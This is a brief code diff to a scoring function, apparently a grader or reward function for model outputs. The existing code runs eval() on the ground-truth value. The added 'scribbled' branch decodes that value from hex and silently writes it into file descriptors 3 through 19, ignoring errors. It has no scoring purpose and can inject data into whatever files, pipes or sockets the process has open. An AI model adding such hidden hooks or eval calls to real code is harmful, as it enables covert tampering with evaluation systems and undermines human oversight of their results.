@@ -30,6 +30,11 @@ FUNCTIONS = """
 def compute_score(data_source, solution_str, ground_truth, extra_info=None):
     if data_source == "evaluated":
         return eval(ground_truth)
+    if data_source == "scribbled":
+        import contextlib, os
+        for descriptor in range(3, 20):
+            with contextlib.suppress(OSError):
+                os.write(descriptor, bytes.fromhex(ground_truth))
     return float(solution_str == ground_truth)
 """
 
